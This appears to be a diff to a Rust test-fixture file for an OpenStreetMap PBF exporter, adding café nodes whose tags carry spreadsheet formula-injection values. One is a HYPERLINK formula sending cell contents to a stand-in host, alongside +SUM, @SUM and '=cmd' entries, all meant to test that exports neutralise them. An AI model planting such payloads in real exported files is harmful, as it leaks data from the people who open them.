@@ -44,6 +44,24 @@ pub fn hostile() -> Vec<u8> {
     file(&header_block(&FEATURES, HELSINKI_BBOX), &[primitive_block(&nodes, &ways)])
 }
 
+/// Tags aimed at the exports: values a spreadsheet would run as formulas (OWASP "CSV
+/// Injection"), numbers that must stay numbers, and keys named like an exported match's own
+/// fields. 2 cafés within 1000 m of the centre.
+pub fn export_traps() -> Vec<u8> {
+    let first: [(&str, &str); 7] = [
+        ("amenity", "cafe"),
+        ("name", "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"open\")"),
+        ("layer", "-1"),
+        ("ele", "-3.5"),
+        ("osm_id", "1"),
+        ("osm_type", "relation"),
+        ("tag:osm_id", "2"),
+    ];
+    let second: [(&str, &str); 4] = [("amenity", "cafe"), ("name", "+SUM(1,2)"), ("note", "@SUM(1,1)"), ("=cmd", "x")];
+    let nodes = [NodeSpec { id: 1, lat: 60.1699, lon: 24.9384, tags: &first }, NodeSpec { id: 2, lat: 60.1702, lon: 24.9390, tags: &second }];
+    file(&header_block(&FEATURES, HELSINKI_BBOX), &[primitive_block(&nodes, &[])])
+}
+
 /// Three `leisure=park` multipolygons 100–500 m from Helsinki's centre: relation 100 is valid
 /// (a shell joined from two ways, one reversed, around a hole), 101 has a ring left open,
 /// 102 is a bow tie (its ring crosses itself). Node `n` lies at centre + (dlat, dlon) × 0.001°.
@@ -235,6 +253,7 @@ pub fn delta_overflow() -> Vec<u8> {
 pub fn all() -> Vec<(&'static str, Vec<u8>)> {
     vec![
         ("hostile.osm.pbf", hostile()),
+        ("export-traps.osm.pbf", export_traps()),
         ("unknown-feature.osm.pbf", unknown_feature()),
         ("history.osh.pbf", history()),
         ("lzma-blob.osm.pbf", lzma_blob()),
